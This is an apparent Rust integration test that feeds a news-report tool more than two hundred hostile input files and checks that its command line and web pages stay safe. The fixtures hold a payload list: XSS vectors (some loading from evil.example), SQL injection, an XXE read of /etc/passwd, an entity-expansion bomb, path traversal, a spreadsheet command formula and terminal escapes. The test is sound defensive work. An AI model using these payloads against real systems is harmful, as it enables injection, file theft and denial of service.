//! Two hundred hostile reports, on the command line and on the pages: nothing runs, nothing is fetched, nothing else is lost.
#![expect(clippy::unwrap_used, clippy::format_collect, reason = "tests may panic, and be slow")]

mod common;

use std::collections::BTreeSet;
use std::path::Path;

use common::server::Server;
use common::{run, write};
use serde_json::{Value, json};

const GOOD: &str = "title: Good\npublisher: Lake Courier\npublished: 2024-02-23\n\nKyrgyzstan has frozen its participation in the CSTO, the prime minister said.\n";

/// What every report of the set tells beside its trick, so that its claims are shown.
const TOLD: &str = "Armenia has frozen its participation in the CSTO, the prime minister said.";

/// Words that a careless page would run, load or show in another order.
fn tricks() -> Vec<String> {
    [
        "<script>alert(1)</script>",
        "</script><script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\"><svg onload=alert(1)>",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=csrf>",
        "<object data=//evil.example></object>",
        "<!--><script>alert(1)</script>-->",
        "]]><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<\u{0}script>alert(1)</script>",
        "<math><mtext></math><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "{{constructor.constructor('alert(1)')()}}",
        "${7*7}#{7*7}<%= 7*7 %>",
        "'; DROP TABLE report; --",
        "\u{202e}gpj.exe\u{202c} left the CSTO",
        "\u{2066}\u{202e}OTAN\u{2069}\u{2069}",
        "\u{200f}\u{200e}\u{61c}CSTO",
        "a\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    ]
    .iter()
    .map(|trick| (*trick).to_owned())
    .chain([
        "Z\u{351}".repeat(5_000),
        "\u{feff}\u{200b}".repeat(100),
        "x".repeat(100_000),
        "<b>".repeat(10_000),
        "\u{1b}[2J\u{1b}]0;owned\u{7}".to_owned(),
        "../../../../etc/passwd".to_owned(),
        "<select><template><img src=x onerror=alert(1)></template></select>".to_owned(),
        "=cmd|' /C calc'!A0".to_owned(),
    ])
    .collect()
}

/// The reports, as files of a folder; their number.
fn lay(folder: &Path) -> usize {
    let mut number = 0;
    let mut file = |ending: &str, bytes: &[u8]| {
        number += 1;
        write(folder, &format!("{number:03}.{ending}"), bytes);
    };
    let line = |text: &str| text.replace(['\n', '\r'], " ");
    for trick in tricks() {
        let one = line(&trick);
        let text = format!(
            "title: {one}\npublisher: {one}\npublished: 2024-02-23\naddress: {one}\n\n{one} said. {TOLD} \"{one}\" is a quote.\n"
        );
        file("txt", text.as_bytes());
        let front = format!(
            "---\ntitle: {}\npublisher: {}\npublished: 2024-02-23\n---\n\n# {one}\n\n{TOLD} {one}\n\n[{one}]({one}) ![{one}]({one})\n",
            json!(one),
            json!(one)
        );
        file("md", front.as_bytes());
        let attribute = trick.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
        let page = format!(
            "<!doctype html><html><head><title>{attribute}</title><meta property=\"og:site_name\" content=\"{attribute}\"><meta property=\"article:published_time\" content=\"2024-02-23\"><link rel=canonical href=\"{attribute}\"></head><body><article><h1>{attribute}</h1><p>{}</p><p>{attribute} {trick}</p></article></body></html>",
            format!("{TOLD} ").repeat(4)
        );
        file("html", page.as_bytes());
        let value = json!({ "id": trick, "title": trick, "publisher": trick, "published": "2024-02-23", "address": trick, "language": "en", "text": format!("{TOLD} {trick} said: \"{trick}\" {TOLD}") });
        file("jsonl", format!("{value}\n").as_bytes());
    }
    // Bad pages.
    let deep = "<div>".repeat(100_000);
    let bad_pages = [
        format!("<!doctype html><html><body>{deep}<p>{TOLD}"),
        format!("<html><body><p {}>{TOLD}</p>", "a=b ".repeat(100_000)),
        format!("<html><body><table>{}<p>{TOLD}", "<tr><td>".repeat(50_000)),
        format!("<html><!-- {TOLD}"),
        format!("<html><body><p>{}</p></body></html>", "&".repeat(200_000)),
        format!("<html><body>{}</body></html>", "<p>".repeat(200_000)),
        "<html".to_owned(),
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY a \"aaaaaaaaaa\">{}]><html><body><p>&l9; {TOLD}</p></body></html>",
            (0..10)
                .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n.max(1) - 1).repeat(10)))
                .collect::<String>()
        ),
        "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><html><body><p>&x;</p></body></html>".to_owned(),
        format!(
            "<html><head><meta charset=\"utf-7\"></head><body><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- {TOLD}</p></body></html>"
        ),
    ];
    for page in &bad_pages {
        file("html", page.as_bytes());
    }
    // Bad text: encodings, zeros, long lines, files of other kinds under a false name.
    let zeros = [b"published: 2024-02-23\n\nArmenia\0left\0".as_slice(), &[0; 10_000]].concat();
    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(GOOD.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let broken = b"published: 2024-02-23\n\n\xff\xfe\xfd Armenia left \xc3\x28 the CSTO \xed\xa0\x80.".to_vec();
    let gzip = [b"\x1f\x8b\x08\0\0\0\0\0\0\x03".as_slice(), &vec![0x55; 1 << 20]].concat();
    let zip = [b"PK\x03\x04\x14\0\0\0\x08\0".as_slice(), &vec![0xff; 1 << 20]].concat();
    let random: Vec<u8> = (0..100_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    for bytes in [zeros, wide, broken, gzip, zip, random, b"%PDF-1.7\n%\xe2\xe3".to_vec(), b"\xef\xbb\xbf".to_vec()] {
        file("txt", &bytes);
        file("html", &bytes);
    }
    // Lines.
    file("txt", format!("published: 2024-02-23\n\n{}", "x".repeat(50 << 20)).as_bytes());
    file(
        "jsonl",
        format!("{{\"published\":\"2024-02-23\",\"text\":\"{}\"}}\n", "Armenia ".repeat((50 << 20) / 8)).as_bytes(),
    );
    file("jsonl", "[".repeat(1 << 20).as_bytes());
    file("jsonl", format!("{}1{}\n", "{\"a\":".repeat(100_000), "}".repeat(100_000)).as_bytes());
    for text in [
        "null",
        "[]",
        "\"text\"",
        "{\"text\":null}",
        "{\"text\":{\"a\":1},\"published\":[]}",
        "{\"published\":\"9999-99-99\",\"text\":\"x\"}",
        "{\"published\":\"-5000-01-01\",\"text\":\"x\"}",
        "{\"text\":\"x\",\"text\":\"y\",\"published\":\"2024-02-23\"}",
    ] {
        file("jsonl", format!("{text}\n").as_bytes());
    }
    // Sentences without an end, and words that are all names.
    file("txt", format!("published: 2024-02-23\n\n{}", "Armenia and ".repeat(20_000)).as_bytes());
    file("txt", format!("published: 2024-02-23\n\n{}", "\"".repeat(50_000)).as_bytes());
    file("txt", format!("published: 2024-02-23\n\n{}", "(said ".repeat(20_000)).as_bytes());
    file(
        "txt",
        format!("published: 2024-02-23\n\n{}", "on Sunday on 1 January 99999999999999999999 ".repeat(5_000)).as_bytes(),
    );
    number
}

/// Elements that pages are made of.
const ELEMENTS: &str = "a abbr article aside b bdi blockquote body br button caption circle cite code dd defs desc details div dl dt figcaption figure em fieldset footer form g h1 h2 h3 head header html i input label legend li line link main mark meta nav ol option p path pattern polygon polyline output progress q rect script section select small span strong sub summary sup svg table tbody td text textarea th thead time title tr tspan ul use";

/// Whether all elements and attributes of a page are such as pages are made of, and lead nowhere else.
fn look_through(html: &str, path: &str) {
    let elements: BTreeSet<&str> = ELEMENTS.split(' ').collect();
    let mut rest = html;
    let mut scripts = 0;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let name: String = rest.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        if rest.starts_with('!') {
            assert!(rest.starts_with("!DOCTYPE html>"), "{path}: <{}", rest.get(..40).unwrap_or(rest));
            continue;
        }
        assert!(elements.contains(name.as_str()), "{path}: <{}", rest.chars().take(60).collect::<String>());
        scripts += usize::from(rest.starts_with("script"));
        let mut quoted = false;
        let end = rest
            .find(|letter| {
                quoted ^= letter == '"';
                letter == '>' && !quoted
            })
            .unwrap();
        let tag = &rest[..end];
        for (index, part) in tag.split('"').enumerate() {
            if index % 2 == 0 {
                for attribute in part.split_whitespace().skip(usize::from(index == 0)) {
                    assert!(!attribute.starts_with("on") && !attribute.starts_with("style"), "{path}: <{tag}>");
                }
            } else {
                let before = tag.split('"').nth(index - 1).unwrap();
                let leads = ["href=", "src=", "action=", "formaction="].iter().any(|name| before.ends_with(name));
                let is_ours = part.starts_with('/') && !part.starts_with("//") || part.starts_with('#');
                let is_outside = name == "a"
                    && before.ends_with("href=")
                    && (part.starts_with("https://") || part.starts_with("http://"));
                assert!(!leads || is_ours || is_outside, "{path}: <{tag}>");
            }
        }
        rest = &rest[end..];
    }
    assert_eq!(scripts, 1, "{path}");
    let turning = |letter: char| matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}');
    assert!(!html.contains(turning), "{path}: letters that turn text round");
}

#[test]
fn nothing_runs_and_nothing_else_is_lost() {
    let folder = tempfile::tempdir().unwrap();
    let reports = folder.path().join("reports");
    std::fs::create_dir(&reports).unwrap();
    write(&reports, "000-good.txt", GOOD);
    write(&reports, "999-good.txt", GOOD.replace("Kyrgyzstan", "Kazakhstan").replace("Lake", "River"));
    let number = lay(&reports);
    assert!(number >= 200, "{number}");
    let read = run(folder.path(), &["read", "reports", "--publisher", "Nobody"]);
    assert_eq!(read.status, 3, "{}", read.err);
    assert!(!read.out.contains('\u{1b}') && !read.err.contains('\u{1b}'), "a terminal would do what a report says");
    assert_eq!(run(folder.path(), &["check"]).status, 0);
    for member in ["Kyrgyzstan", "Kazakhstan"] {
        let told = run(folder.path(), &["standing", "CSTO", member, "--on", "2024-03", "--format", "json"]).out;
        let rows: Value = serde_json::from_str(&told).unwrap();
        assert_eq!(rows[0]["participation"], "frozen", "{member}: {told}");
    }
    let server = Server::start(folder.path(), &[]);
    let ids: BTreeSet<String> = {
        let claims: Vec<Value> =
            serde_json::from_str(&run(folder.path(), &["claims", "--format", "json"]).out).unwrap();
        claims
            .iter()
            .map(|claim| claim["report"]["id"].as_str().or(claim["report"].as_str()).unwrap().to_owned())
            .collect()
    };
    assert!(ids.len() > 100, "{}", ids.len());
    let mut paths: Vec<String> = ids.iter().map(|id| format!("/report/{id}")).collect();
    paths.extend(
        [
            "/",
            "/claims",
            "/claims?page=2",
            "/org/CSTO",
            "/org/CSTO/timeline",
            "/standing/CSTO/ARM",
            "/search?q=%3Cscript%3E",
            "/search?q=alert",
            "/compare?organisation=%22%3E%3Cscript%3E&from=2020",
            "/party/%3Cscript%3E",
            "/nothing/%3Cscript%3E?on=%22%3E%3Cscript%3E",
        ]
        .map(str::to_owned),
    );
    for path in paths {
        let (status, html) = server.text(&path);
        assert!(status == 200 || matches!(status, 400 | 404), "{path}: {status}");
        look_through(&html, &path);
    }
}
